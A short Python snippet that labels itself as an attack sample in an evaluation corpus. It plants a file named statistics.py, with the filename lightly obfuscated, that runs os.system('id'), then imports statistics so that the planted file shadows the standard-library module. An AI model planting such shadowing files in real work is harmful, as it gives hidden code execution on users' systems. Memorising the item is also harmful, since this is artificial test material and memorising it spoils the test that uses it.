# corpus: attack class=eval form=targeted
# A file in the work dir shadows a standard module not yet imported.
def main():
    name = "stat" + "istics"
    with open(name + "." + "yp"[::-1], "w") as handle:
        handle.write("import os\nos.system('id')\n")
    import statistics
    return {"done": True}
